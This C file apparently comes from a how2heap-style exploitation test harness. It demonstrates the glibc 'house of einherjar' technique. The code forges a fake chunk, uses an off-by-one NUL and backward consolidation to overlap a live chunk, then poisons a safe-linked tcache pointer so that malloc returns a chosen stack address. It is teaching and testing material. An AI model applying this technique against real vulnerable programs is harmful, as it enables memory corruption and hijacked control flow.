/* Technique: house of einherjar (how2heap, glibc 2.32+ version with
   tcache poisoning).

   Goal: malloc returns a chosen address (a 16-byte aligned stack
   buffer).

   How: a holds a fake free chunk F (size 0x60, fd = bk = F).  b (0x30
   chunk) sits between a and c (0x100 chunk).  An off-by-one NUL from b
   clears c's PREV_INUSE, and b's last word (c's prev_size) is set to
   the distance from F to c.  With the 0x100 tcache bin full, free (c)
   consolidates backward into F, so a 0x160 free chunk overlaps the live
   b.  malloc (0x158) returns it (d).  b is then freed into the tcache,
   and through d its safe-linked next pointer is rewritten to the
   target; the second malloc of b's size returns the target.  */
#include "attack.h"

int
main (void)
{
  attack_init ("house_of_einherjar: off-by-one NUL, backward consolidation with a fake chunk, tcache poisoning");
  _Alignas (16) size_t target[8] = { 0 };
  void *fill[7];
  for (int i = 0; i < 7; i++)
    fill[i] = malloc (0xf8);

  size_t *a = malloc (0x38);	/* chunk 0x40 */
  char *b = malloc (0x28);	/* chunk 0x30 */
  char *c = malloc (0xf8);	/* chunk 0x100, size word 0x101 */
  void *guard = malloc (0x18);
  say ("a %p b %p c %p guard %p target %p", a, b, c, guard, target);

  /* Fake chunk F at a (user memory of a).  */
  size_t fsize = (size_t) (c - 0x10) - (size_t) a;
  a[0] = 0;
  a[1] = fsize;
  a[2] = (size_t) a;
  a[3] = (size_t) a;
  /* c's prev_size is b's last word; then the off-by-one NUL.  */
  *(size_t *) (b + 0x20) = fsize;
  b[0x28] = 0;

  for (int i = 0; i < 7; i++)
    free (fill[i]);
  free (c);

  char *d = malloc (0x158);
  say ("d = malloc (0x158) = %p", d);

  void *pad = malloc (0x28);
  free (pad);
  free (b);
  if (d && overlaps (d, 0x158, b, 8))
    /* b's tcache next pointer, written through d.  */
    *(size_t *) (d + (b - d)) = PROTECT_PTR (b, target);

  void *x = malloc (0x28);
  void *y = malloc (0x28);
  say ("malloc (0x28) = %p, then %p", x, y);
  if (y == (void *) target)
    reached ("malloc returned the stack target %p", y);
  no_effect ("malloc returned %p and %p, not the target %p", x, y, target);
}
